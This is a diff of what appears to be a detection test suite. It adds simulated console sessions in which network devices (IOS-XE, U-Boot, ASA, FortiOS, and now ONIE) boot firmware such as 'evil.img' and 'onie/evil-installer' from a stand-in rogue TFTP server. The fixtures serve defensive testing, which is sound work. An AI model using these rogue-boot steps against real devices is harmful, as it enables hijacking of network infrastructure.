@@ -55,18 +55,28 @@ def bw07_consoles(wire: Wire) -> None:
         ("BW07", 1542007382, "10.0.1.32", ADMIN),
         ("BW07", 1542007381, "10.0.1.33", ADMIN),
         ("BW07", 1542007383, "10.0.1.34", ADMIN),
+        ("BW07", 1542007384, "10.0.1.35", ADMIN),
     ],
     site=HQ,
-    with_site=Expect((command(31), command(32, "evil.img"), command(33, "asa.bin"), command(34, "FGT_evil.out"))),
+    with_site=Expect(
+        (
+            command(31),
+            command(32, "evil.img"),
+            command(33, "asa.bin"),
+            command(34, "FGT_evil.out"),
+            command(35, "onie/evil-installer"),
+        )
+    ),
 )
 def bw07_loaders_say(wire: Wire) -> None:
-    """The loaders of IOS-XE, U-Boot and ASA say from where they load by themselves; FortiOS' boot menu asks."""
+    """The loaders of IOS-XE, U-Boot and ASA, and ONIE, say from where they load by themselves; FortiOS' menu asks."""
     menu = f"Enter TFTP server address [192.168.1.168]: {ROGUE}\r\nEnter local address [192.168.1.188]: 10.0.1.34"
     for last, output in (
         (31, f"Receiving evil.bin from {ROGUE} !!!!!!"),
         (32, f"TFTP from server {ROGUE}; our IP address is 10.0.1.32\r\nFilename 'evil.img'.\r\nLoading: ####"),
         (33, f"tftp asa.bin@{ROGUE} via 10.0.1.254"),
         (34, f"{menu}\r\nEnter firmware image file name [image.out]: FGT_evil.out"),
+        (35, f"ONIE: Executing installer: tftp://{ROGUE}/onie/evil-installer\r\nVerifying image checksum ... OK."),
     ):
         session = Telnet(wire, ADMIN, f"10.0.1.{last}")
         session.tcp.reply(f"\r\nBooting\r\n{output}\r\ndone\r\n".encode())
@@ -112,6 +122,10 @@ def bw07_local_boots(wire: Wire) -> None:
     console(
         wire, 31, "Enter G,F,I,Q,or H: ", ("H", "Enter TFTP server address [192.168.1.168]: \nEnter Selection [G]:")
     )
+    tries = (
+        f"Info: Attempting tftp://{ROGUE}/onie-installer-x86_64 ...\nInfo: Attempting file://dev/sda2/onie-installer"
+    )
+    console(wire, 32, "ONIE:/ # ", ("onie-discovery-start", f"{tries}\nONIE: Executing installer: file://dev/sda2/x"))
     console(wire, 30, "$ ", (f"tftp {ROGUE}", "tftp> "), ("dhcp -v eth0", ""), ("load average", ""))
 
 
